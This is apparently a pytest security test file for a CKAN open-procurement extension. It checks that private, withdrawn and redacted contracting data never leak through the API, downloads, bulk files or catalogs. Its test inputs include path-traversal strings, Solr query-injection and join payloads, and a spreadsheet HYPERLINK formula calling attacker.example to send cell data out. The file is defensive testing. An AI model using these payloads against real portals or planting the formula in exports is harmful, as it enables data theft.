"""A hostile tester's pass over the ways data leaves the portal: the OCDS API, bulk files,
search downloads, DCAT catalogs, /data.json and the publication quality figures.

Two attackers: an anonymous visitor and an editor of another organization (`stranger`).
The victim organization has a public process, a private one (as pending review is), a
withdrawn one, and a redacted path. Each test is one attack, through the real services.
"""
from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import zipfile

import openpyxl
import pytest

from ckan import model
from ckan.tests import factories, helpers

from ckanext.procurement import quality
from ckanext.procurement.bulk import regenerate
from ckanext.procurement.bulk.storage import PORTAL
from ckanext.procurement.model import ProcurementRecord
from ckanext.procurement.tests.ckan.test_schema import release, save

PUBLIC, PRIVATE, WITHDRAWN = "ocds-hx0001-public", "ocds-hx0001-private", "ocds-hx0001-withdrawn"
PRIVATE_TITLE, WITHDRAWN_TITLE = "Confidential informant payments", "Withdrawn riot gear"


def _process(ocid: str, title: str, amount: int | None = 100, **blocks) -> list[dict]:
    tender = {"value": {"amount": amount, "currency": "USD"}} if amount is not None else {}
    tender.update(blocks.pop("tender", {}))
    return [release(ocid, title=title, tender=tender, **blocks)]


@pytest.fixture
def victim(clean_db, clean_index, sysadmin, organization):
    """A public, a private and a withdrawn process of `organization`; `stranger` edits another one."""
    save(sysadmin, organization, _process(PUBLIC, "Road salt"))
    save(sysadmin, organization, _process(PRIVATE, PRIVATE_TITLE), private=True)
    withdrawn = save(sysadmin, organization, _process(WITHDRAWN, WITHDRAWN_TITLE))
    helpers.call_action("package_delete", context={"user": sysadmin["name"]}, id=withdrawn["package"]["id"])
    stranger = factories.UserWithToken()
    factories.Organization(users=[{"name": stranger["name"], "capacity": "editor"}])
    member = factories.UserWithToken()
    helpers.call_action("organization_member_create", context={"user": sysadmin["name"]},
                        id=organization["id"], username=member["name"], role="member")
    return {"organization": organization, "stranger": stranger, "member": member}


def _secret_free(text: str) -> None:
    for secret in (PRIVATE, WITHDRAWN, PRIVATE_TITLE, WITHDRAWN_TITLE):
        assert secret not in text, secret


def _cursor(key, direction="n", count=None) -> str:
    raw = json.dumps([key, direction, count]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


# --- the OCDS API -------------------------------------------------------------------------------

@pytest.mark.parametrize("key", [
    ["\ud800", "x", 0],  # a lone surrogate: JSON allows it, UTF-8 (and PostgreSQL) does not
    ["ocds", "\udfff", 0],
])
def test_a_tampered_cursor_with_text_utf8_cannot_hold_is_a_400(app, victim, key):
    response = app.get("/api/ocds/releases", query_string={"cursor": _cursor(key)})
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert response.get_json()["error"]["parameter"] == "cursor"


def test_a_tampered_cursor_cannot_reach_what_the_caller_may_not_see(app, victim):
    """A cursor's key only says where to start, its count is only echoed: neither widens the query."""
    stranger = {"Authorization": victim["stranger"]["token"]}
    for key, direction in (([" ", "", 0], "n"), (["\uffff", "\uffff", 10 ** 30], "p"), (["", "", -(10 ** 30)], "n")):
        for headers in ({}, stranger):
            response = app.get("/api/ocds/releases", query_string={"cursor": _cursor(key, direction, 7)},
                               headers=headers)
            assert response.status_code == 200, response.get_data(as_text=True)[:300]
            body = response.get_data(as_text=True)
            _secret_free(body)
            assert {r["ocid"] for r in response.get_json()["releases"]} <= {PUBLIC}
    records = app.get("/api/ocds/records", query_string={"cursor": _cursor([PRIVATE[:-1]])})
    _secret_free(records.get_data(as_text=True))


@pytest.mark.parametrize("query", [
    "limit=-1", "limit=99999999999999999999999", "limit=1e3", "limit=%EF%BC%91",
    "since=99999-01-01", "since=2024-13-45", "since=%00", "since=0001-01-01T00:00:00%2B01:00",
    "until=9999-12-31T23:00:00-05:00", "publisher=%00", "publisher=../../etc", "publisher=" + "x" * 600,
    "ocid=%F0%9F%92%A3", "cursor=%00", "cursor=" + "A" * 5000,
])
def test_crafted_api_parameters_are_never_a_500(app, victim, query):
    for endpoint in ("releases", "records"):
        response = app.get(f"/api/ocds/{endpoint}?{query}")
        assert response.status_code in (200, 400, 404), (endpoint, query, response.get_data(as_text=True)[:300])
        _secret_free(response.get_data(as_text=True))


@pytest.mark.parametrize("ocid", [PRIVATE, WITHDRAWN, "..%2F..%2Fetc%2Fpasswd", "%F0%9F%92%A3"])
def test_one_record_the_caller_may_not_see_is_a_404_that_tells_nothing(app, victim, ocid):
    for headers in ({}, {"Authorization": victim["stranger"]["token"]}):
        response = app.get(f"/api/ocds/records/{ocid}", headers=headers)
        assert response.status_code == 404
        for title in (PRIVATE_TITLE, WITHDRAWN_TITLE):
            assert title not in response.get_data(as_text=True)
    for query in (f"ocid={PRIVATE}", f"ocid={WITHDRAWN}"):
        assert app.get(f"/api/ocds/releases?{query}",
                       headers={"Authorization": victim["stranger"]["token"]}).status_code == 404


# --- caching --------------------------------------------------------------------------------------

@pytest.mark.ckan_config("ckan.cache_expires", "3600")
@pytest.mark.parametrize("path", [
    "/api/ocds/releases", "/api/ocds/records", f"/api/ocds/records/{PRIVATE}",
    "/contracting-process/download.csv", "/contracting-process/download.xlsx",
])
def test_what_a_member_sees_is_never_publicly_cacheable(app, victim, path):
    """CKAN marks a signed-in user's rendered pages `Cache-Control: private`, but a view that
    returns its own response (JSON, a download) got `public, max-age=ckan.cache_expires`: a
    shared cache (nginx, a CDN) would then serve a member's private processes to anyone."""
    member = {"Authorization": victim["member"]["token"]}
    response = app.get(path, headers=member)
    assert response.status_code == 200 and PRIVATE.encode() in response.get_data() or path.endswith("xlsx")
    assert not response.cache_control.public and response.cache_control.private, response.headers
    anonymous = app.get(path.replace(PRIVATE, PUBLIC))
    assert anonymous.status_code == 200 and anonymous.cache_control.public  # public data stays cacheable


# --- search downloads ------------------------------------------------------------------------------

@pytest.mark.parametrize("params", [
    {"state": "draft"}, {"state": "deleted"}, {"capacity": "private"}, {"private": "true"},
    {"permission_labels": "member-VICTIM"}, {"owner_org": "VICTIM"},
    {"q": "{!lucene}*:*"}, {"q": f'title:"{PRIVATE_TITLE}"'}, {"q": "*:* OR capacity:private"},
    {"ext_open": "1", "q": "informant"}, {"sort": "score desc"},
])
def test_crafted_search_downloads_never_hold_a_private_or_withdrawn_process(app, victim, params):
    organization_id = victim["organization"]["id"]
    query = {key: value.replace("VICTIM", organization_id) for key, value in params.items()}
    for headers in ({}, {"Authorization": victim["stranger"]["token"]}):
        for extension in ("csv", "xlsx"):
            response = app.get(f"/contracting-process/download.{extension}", query_string=query, headers=headers)
            assert response.status_code in (200, 400), (query, response.get_data(as_text=True)[:300])
            if extension == "csv":
                _secret_free(response.get_data().decode("utf-8", "replace"))
            else:
                if response.status_code == 200:
                    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
                    _secret_free(json.dumps([[c.value for c in row] for row in sheet.iter_rows()], default=str))


@pytest.mark.parametrize("params", [
    {"q": "{!join from=owner_org to=owner_org}title:Confidential"},
    {"q": "title:Road _query_:\"{!join from=owner_org to=owner_org}title:Confidential\""},
    {"buyer_name": '"} OR {!join from=owner_org to=owner_org}title:Confidential'},
])
def test_a_join_cannot_tell_whether_a_private_process_matches(app, victim, params):
    """A join from the private process to its organization's public ones would answer
    "does a private process of theirs say Confidential?" by returning the public one."""
    response = app.get("/contracting-process/download.csv", query_string=params)
    assert response.status_code == 400 or PUBLIC not in response.get_data(as_text=True), params


# --- bulk files ----------------------------------------------------------------------------------

@pytest.fixture
def bulk(victim, tmp_path, ckan_config, monkeypatch):
    monkeypatch.setitem(ckan_config, "ckanext.procurement.bulk.directory", str(tmp_path / "bulk"))
    regenerate.generate(victim["organization"]["id"])
    regenerate.generate(PORTAL)
    return tmp_path / "bulk"


@pytest.mark.parametrize("name", [
    "manifest.json", "..%2Fmanifest.json", "..%2F..%2F..%2Fetc%2Fpasswd", ".tmp-x", "%00", "compiled-releases.jsonl",
    "COMPILED-RELEASES.JSONL.GZ", "compiled-releases.jsonl.gz%00.txt", "a" * 300,
])
def test_only_published_bulk_files_are_served_whatever_the_name(app, bulk, victim, name):
    organization = victim["organization"]["name"]
    for path in (f"/bulk/portal/{name}", f"/bulk/publisher/{organization}/{name}"):
        assert app.get(path).status_code == 404, path


@pytest.mark.parametrize("name", ["%00", "..", "portal", "nobody", "a" * 300, "%F0%9F%92%A3"])
def test_a_bad_organization_in_a_bulk_path_is_a_404(app, bulk, name):
    assert app.get(f"/bulk/publisher/{name}/compiled-releases.jsonl.gz").status_code == 404


def test_bulk_files_and_their_datasets_hold_only_public_processes(app, bulk, victim):
    organization = victim["organization"]
    for scope_path in ("/bulk/portal", f"/bulk/publisher/{organization['name']}"):
        for name in ("compiled-releases.jsonl.gz", "record-package.json.gz", "flat-csv.zip", "flat.xlsx"):
            response = app.get(f"{scope_path}/{name}")
            assert response.status_code == 200, (scope_path, name)
            data = response.get_data()
            if name.endswith(".gz"):
                data = gzip.decompress(data)
            if name.endswith(".zip") or name.endswith(".xlsx"):
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    data = b"".join(archive.read(member) for member in archive.namelist())
            _secret_free(data.decode("utf-8", "replace"))
            assert PUBLIC.encode() in data
    bulk_datasets = helpers.call_action("package_search", fq="dataset_type:procurement-dataset")["results"]
    assert bulk_datasets
    _secret_free(json.dumps(bulk_datasets))


# --- DCAT and /data.json ----------------------------------------------------------------------

@pytest.mark.ckan_config("ckanext.procurement.dcat.include_processes", "true")
@pytest.mark.parametrize("query", [
    "", f"q={PRIVATE_TITLE}", "fq=capacity:private", "fq=%2Bstate:deleted", "fq=%2Bstate:*",
    "q=*:*&fq=private:true", "fq=%2Bpermission_labels:*", "modified_since=2000-01-01",
])
def test_no_catalog_query_lists_a_private_or_withdrawn_process(app, victim, query):
    for headers in ({}, {"Authorization": victim["stranger"]["token"]}):
        response = app.get(f"/catalog.ttl?{query}", headers=headers)
        assert response.status_code in (200, 400), (query, response.get_data(as_text=True)[:300])
        _secret_free(response.get_data(as_text=True))
    _secret_free(app.get("/data.json").get_data(as_text=True))


@pytest.mark.parametrize("ocid", [PRIVATE, WITHDRAWN])
def test_a_private_or_withdrawn_process_has_no_dcat_document_for_others(app, victim, ocid):
    record = model.Session.query(ProcurementRecord).filter_by(ocid=ocid).first()
    package = model.Package.get(record.package_id)
    for headers in ({}, {"Authorization": victim["stranger"]["token"]}):
        for ident in (package.name, package.id):
            for extension in ("ttl", "jsonld", "xml"):
                response = app.get(f"/dataset/{ident}.{extension}", headers=headers)
                assert response.status_code in (403, 404), (ident, extension, response.status_code)
                # the page repeats the path asked for (so the name typed), never what the process holds
                assert PRIVATE_TITLE not in response.get_data(as_text=True)
                assert WITHDRAWN_TITLE not in response.get_data(as_text=True)


# --- publication quality ------------------------------------------------------------------------

def test_quality_figures_never_name_a_process_that_is_no_longer_public(app, victim, sysadmin):
    """The figures are stored by the last recompute; a process made private (sent back for
    review) or withdrawn since must not stay listed by ocid until the next one."""
    organization = victim["organization"]
    reversed_period = {"tenderPeriod": {"startDate": "2024-03-01T00:00:00Z", "endDate": "2024-02-01T00:00:00Z"}}
    quietly = _process("ocds-hx0001-later-private", "Quietly reviewed", amount=None, tender=reversed_period)
    hidden = save(sysadmin, organization, quietly)
    later = save(sysadmin, organization, _process("ocds-hx0001-later-withdrawn", "Quietly withdrawn", amount=None,
                                                  tender=reversed_period))
    quality.recompute()
    listed = json.dumps(helpers.call_action("procurement_quality_show", owner_org=organization["id"]))
    figures = helpers.call_action("procurement_quality_show", owner_org=organization["id"])
    failed = [check["examples"]["failed"] for check in figures["checks"].values()]
    assert ["ocds-hx0001-later-private", "ocds-hx0001-later-withdrawn"] in failed  # a check's examples
    assert "ocds-hx0001-later-private" in listed and "ocds-hx0001-later-withdrawn" in listed
    helpers.call_action("bulk_update_private", context={"user": sysadmin["name"]},
                        datasets=[hidden["package"]["id"]], org_id=organization["id"])
    model.Session.expire_all()  # the bulk update writes past the session: read what is stored
    assert model.Package.get(hidden["package"]["id"]).private
    helpers.call_action("package_delete", context={"user": sysadmin["name"]}, id=later["package"]["id"])
    for params in ({"owner_org": organization["id"]}, {}):
        shown = json.dumps(helpers.call_action("procurement_quality_show", context={"user": ""}, **params))
        assert "later-private" not in shown and "later-withdrawn" not in shown, params
    for path in ("/publication-quality", f"/publication-quality/{organization['name']}"):
        page = app.get(path, headers={"Authorization": victim["stranger"]["token"]}).get_data(as_text=True)
        assert "later-private" not in page and "later-withdrawn" not in page, path
        _secret_free(page)


@pytest.mark.parametrize("owner_org", ["%00", "../x", "<script>", "a" * 300, "%F0%9F%92%A3"])
def test_a_crafted_quality_page_name_is_a_404_never_a_500(app, victim, owner_org):
    assert app.get(f"/publication-quality/{owner_org}").status_code == 404


FORMULA_KEY = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'


def test_a_harvested_field_name_cannot_be_a_formula_in_the_flattened_tables(app, victim, sysadmin, tmp_path,
                                                                            ckan_config, monkeypatch):
    """OCDS lets a publisher add fields (extensions): their names become column headers of the
    flattened CSV and XLSX tables, and are read by a spreadsheet like any other cell."""
    monkeypatch.setitem(ckan_config, "ckanext.procurement.bulk.directory", str(tmp_path / "bulk"))
    extended = _process("ocds-hx0001-extended", "Extended", **{FORMULA_KEY: "x"})
    extended[0]["tender"][FORMULA_KEY] = "y"
    save(sysadmin, victim["organization"], extended)
    regenerate.generate(PORTAL)
    with zipfile.ZipFile(io.BytesIO(app.get("/bulk/portal/flat-csv.zip").get_data())) as archive:
        for name in ("processes.csv", "tenders.csv", "dictionary.csv"):
            rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            cells = [cell for row in rows for cell in row]
            assert any("HYPERLINK" in cell for cell in cells), name  # kept: nothing published is lost
            assert not any(cell.startswith(("=", "+", "-", "@")) and "HYPERLINK" in cell for cell in cells), name
    dictionary = app.get("/bulk/portal/data-dictionary.csv").get_data().decode("utf-8-sig")
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(dictionary)) for cell in row)


@pytest.mark.parametrize("query", [
    "page=0", "page=-1", "page=abc", "page=99999999999999999999", "page=2147483647",
    "modified_since=99999999999999999999", "modified_since=%00", "modified_since=2024-13-45",
    "q=%00", "fq=%00", "q=" + "(" * 200,
])
def test_crafted_catalog_parameters_are_never_a_500(app, victim, query):
    for extension in ("ttl", "jsonld"):
        response = app.get(f"/catalog.{extension}?{query}")
        assert response.status_code in (200, 400, 404, 409), (query, response.get_data(as_text=True)[:300])


WITHHELD = {"amount": 987654321, "supplier": "Shell Company Zeta", "email": "informant@withheld.example"}


@pytest.mark.ckan_config("ckanext.procurement.dcat.include_processes", "true")
def test_a_redacted_value_reaches_no_export(app, victim, sysadmin, tmp_path, ckan_config, monkeypatch):
    monkeypatch.setitem(ckan_config, "ckanext.procurement.bulk.directory", str(tmp_path / "bulk"))
    ocid = "ocds-hx0001-redacted"
    supplier = {"id": "s-1", "name": WITHHELD["supplier"]}
    redacted = _process(ocid, "Redacted", amount=WITHHELD["amount"], awards=[
        {"id": "a-1", "status": "active", "suppliers": [supplier], "value": {"amount": 5, "currency": "USD"}}],
        parties=[dict(supplier, roles=["supplier"], contactPoint={"email": WITHHELD["email"]})])
    saved = save(sysadmin, victim["organization"], redacted,
                 redact_paths=["tender/value", "awards/suppliers/name", "parties/name", "parties/contactPoint/email"])
    regenerate.generate(PORTAL)
    quality.recompute()
    name = saved["package"]["name"]
    for path in (
        "/api/ocds/releases", "/api/ocds/records", f"/api/ocds/records/{ocid}",
        "/contracting-process/download.csv", f"/dataset/{name}.ttl", f"/dataset/{name}.jsonld",
        "/catalog.ttl", "/data.json", "/publication-quality", "/bulk/portal/compiled-releases.jsonl.gz",
        "/bulk/portal/record-package.json.gz", "/bulk/portal/flat-csv.zip", "/bulk/portal/flat.xlsx",
        "/contracting-process/download.xlsx",
    ):
        response = app.get(path)  # read whole before the next (streamed answers hold their request)
        assert response.status_code == 200, path
        data = response.get_data()
        if path.endswith(".gz"):
            data = gzip.decompress(data)
        if path.endswith((".zip", ".xlsx")):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                data = b"".join(archive.read(member) for member in archive.namelist())
        text = data.decode("utf-8", "replace")
        assert ocid in text or "quality" in path or path.endswith("data.json") or path == "/catalog.ttl", path
        for value in WITHHELD.values():
            assert str(value) not in text, (path, value)


@pytest.mark.parametrize("owner_org", [["x"], {"a": 1}, 1e308, True, "", "x\u0000"])
def test_a_crafted_quality_request_is_named_never_a_500(app, victim, owner_org):
    response = app.post("/api/3/action/procurement_quality_show", json={"owner_org": owner_org})
    assert response.status_code in (200, 400, 404, 409), (owner_org, response.get_data(as_text=True)[:300])
    assert response.get_json()["success"] is (response.status_code == 200)


@pytest.mark.parametrize("tender_extra", [
    '{"a/b": "slash", "a": {"b": "nested"}}',  # two fields flatten to one column name
    '{"value": {"amount": 1e400, "currency": "USD"}}',  # JSON's number without a float
    '{"value": {"amount": 100000000000000000000000000000, "currency": "USD"}}',  # an integer past 64 bits
    '{"x": "' + "y" * 40000 + '"}',  # more than a spreadsheet cell holds
    '{"\\u0000": "nul", "": "empty"}',  # field names a table column can hardly have
])
def test_a_hostile_editors_process_cannot_stop_the_portals_bulk_files(app, victim, tmp_path, ckan_config,
                                                                       monkeypatch, tender_extra):
    """The portal's files hold every publisher's processes: whatever an editor of another
    organization publishes in theirs, the regeneration still writes everyone's."""
    monkeypatch.setitem(ckan_config, "ckanext.procurement.bulk.directory", str(tmp_path / "bulk"))
    stranger = victim["stranger"]
    organization = helpers.call_action("organization_list_for_user", context={"user": stranger["name"]},
                                       permission="create_dataset")[0]
    body = json.dumps({"owner_org": organization["id"],
                       "releases": _process("ocds-hx0002-hostile", "Hostile")}).replace(
        '"title": "Hostile"', '"title": "Hostile", "hostile": ' + tender_extra)
    response = app.post("/api/3/action/procurement_process_save", data=body,
                        headers={"Authorization": stranger["token"], "Content-Type": "application/json"})
    assert response.status_code in (200, 400, 409), response.get_data(as_text=True)[:300]
    regenerate.generate(PORTAL)
    compiled = app.get("/bulk/portal/compiled-releases.jsonl.gz")
    assert PUBLIC.encode() in gzip.decompress(compiled.get_data())
    assert app.get("/bulk/portal/flat.xlsx").status_code == 200


@pytest.mark.parametrize("number", ["1e400", "-1e400", "NaN", "Infinity"])
def test_a_number_json_cannot_carry_is_refused_naming_its_path(app, victim, number):
    """Python's JSON parser reads 1e400 as infinity (and NaN, Infinity as such); PostgreSQL's JSONB
    refuses them: the save was a 500. It is a 409 naming where the number is, and nothing is stored."""
    stranger = victim["stranger"]
    organization = helpers.call_action("organization_list_for_user", context={"user": stranger["name"]},
                                       permission="create_dataset")[0]
    body = json.dumps({"owner_org": organization["id"], "releases": _process("ocds-hx0002-number", "Number")})
    body = body.replace('"title": "Number"', f'"title": "Number", "extra": {{"amount": {number}}}')
    response = app.post("/api/3/action/procurement_process_save", data=body,
                        headers={"Authorization": stranger["token"], "Content-Type": "application/json"})
    assert response.status_code == 409, response.get_data(as_text=True)[:300]
    assert "tender/extra/amount" in response.get_data(as_text=True)
    assert model.Session.query(ProcurementRecord).filter_by(ocid="ocds-hx0002-number").first() is None
